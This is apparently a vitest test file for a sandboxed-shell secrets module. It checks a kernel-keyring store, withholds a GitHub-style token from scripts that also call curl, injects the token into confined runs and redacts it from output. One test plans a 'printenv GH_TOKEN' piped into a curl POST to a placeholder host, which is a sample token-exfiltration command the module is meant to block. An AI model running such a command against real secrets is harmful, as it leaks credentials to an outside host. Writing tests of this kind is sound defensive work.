// The keyring store on the kernel keyring, and a secret's whole path: stored,
// planned, resolved, injected into a confined run, redacted from its output.
import { spawn } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SafeShell } from "../../dist/index.js";
import { createRedactor, openStore, planSecrets, redact, resolveSecrets, valuesByName, type SecretStore } from "../../dist/secrets/index.js";
import { canConfine } from "../helpers/gate";
import { removeTempDirs, tempDir } from "../helpers/sandbox";
import { HAVE_KEYUTILS, uniqueName } from "./helpers";

async function codeOf(promise: Promise<unknown>): Promise<string | undefined> {
  return promise.then(
    () => undefined,
    (error: { code?: string }) => error.code,
  );
}

describe.runIf(HAVE_KEYUTILS)("keyutils store", () => {
  let store: SecretStore;
  const name = uniqueName("store");
  beforeAll(async () => {
    store = await openStore({ backend: "keyutils" });
  });
  afterAll(async () => {
    await store?.delete(name);
  });

  it("is the backend asked for", () => {
    expect(store.backend).toBe("keyutils");
  });

  it("stores, reads, replaces and removes a value", async () => {
    expect(await store.get(name)).toBeNull();
    await store.set(name, "first-value");
    expect(await store.get(name)).toBe("first-value");
    await store.set(name, "second-value");
    expect(await store.get(name)).toBe("second-value");
    expect(await store.delete(name)).toBe(true);
    expect(await store.get(name)).toBeNull();
    expect(await store.delete(name)).toBe(false);
  });

  it("is read by another process (the persistent keyring)", async () => {
    await store.set(name, "shared-value");
    const script = `require(${JSON.stringify(path.join(__dirname, "..", "..", "dist", "secrets", "index.js"))}).openStore({ backend: "keyutils" }).then((s) => s.get(${JSON.stringify(name)})).then((v) => process.stdout.write(String(v)))`;
    const child = spawn(process.execPath, ["-e", script], { stdio: ["ignore", "pipe", "inherit"] });
    let out = "";
    child.stdout.on("data", (chunk: Buffer) => (out += chunk));
    await new Promise((resolve) => child.once("close", resolve));
    expect(out).toBe("shared-value");
    await store.delete(name);
  });

  it("rejects invalid names (ERR_SAFESH_USAGE) and unknown backends", async () => {
    expect(await codeOf(store.get("../x"))).toBe("ERR_SAFESH_USAGE");
    expect(await codeOf(openStore({ env: { SAFE_SH_KEYRING: "plaintext" } }))).toBe("ERR_SAFESH_USAGE");
  });

  it("lets SAFE_SH_KEYRING win over the configured backend", async () => {
    expect((await openStore({ backend: "secret-service", env: { SAFE_SH_KEYRING: "keyutils" } })).backend).toBe("keyutils");
  });
});

describe.runIf(HAVE_KEYUTILS && canConfine())("a secret from the keyring to a confined run and back out redacted", () => {
  const name = uniqueName("e2e");
  const value = `ghp_${process.pid}_e2e_0123456789abcdef`;
  const rules = [{ name, env: "GH_TOKEN", commands: [["printenv", "GH_TOKEN"], ["tee", "leak.txt"]] }];
  let store: SecretStore;
  let workspace: string;
  beforeAll(async () => {
    store = await openStore({ backend: "keyutils" });
    await store.set(name, value);
    workspace = tempDir("e2e");
  });
  afterAll(async () => {
    await store?.delete(name);
    removeTempDirs();
  });

  it("withholds it from a script that also runs curl, and reads no keyring for it", async () => {
    const plan = planSecrets([["printenv", "GH_TOKEN"], ["curl", "-d", "@-", "https://x.example"]], rules);
    expect(plan.inject).toEqual([]);
    expect(plan.withheld[0]!.reason).toContain("curl");
    expect(await resolveSecrets(plan, async () => Promise.reject(new Error("must not open")))).toEqual({});
  });

  it("injects it into a matching script; captured output and a file show only [REDACTED:NAME]", async () => {
    const plan = planSecrets([["printenv", "GH_TOKEN"], ["tee", "leak.txt"]], rules);
    const env = await resolveSecrets(plan, store);
    expect(Object.keys(env)).toEqual(["GH_TOKEN"]);
    // What the run path will do: the resolved variables join the scrubbed environment.
    const run = await new SafeShell({ workspace }).run("printenv GH_TOKEN | tee leak.txt", {
      env: { PATH: process.env.PATH, ...env },
      keepEnv: Object.keys(env),
      timeoutMs: 20_000,
    });
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toBe(`${value}\n`); // raw output really carried it
    const secrets = valuesByName(plan, env);
    const redactedOut = redact(run.stdout, secrets);
    const redactedFile = redact(fs.readFileSync(path.join(workspace, "leak.txt"), "utf8"), secrets);
    for (const text of [redactedOut, redactedFile]) {
      expect(text).toBe(`[REDACTED:${name}]\n`);
      expect(text).not.toContain(value);
    }
  });

  it("redacts the value from a stream read in small chunks", async () => {
    const child = new SafeShell({ workspace }).spawn(`for i in 1 2 3; do printf 'x%s' "$GH_TOKEN"; done`, {
      env: { PATH: process.env.PATH, GH_TOKEN: value },
      keepEnv: ["GH_TOKEN"],
      stdio: ["ignore", "pipe", "inherit"],
    });
    const redactor = createRedactor({ [name]: value });
    let out = "";
    // Three bytes at a time: every value arrives split across several pushes.
    child.stdout!.on("data", (chunk: Buffer) => {
      for (let i = 0; i < chunk.length; i += 3) out += redactor.push(chunk.subarray(i, i + 3));
    });
    await new Promise((resolve) => child.once("close", resolve));
    out += redactor.flush();
    expect(out).toBe(`x[REDACTED:${name}]`.repeat(3));
  });
});
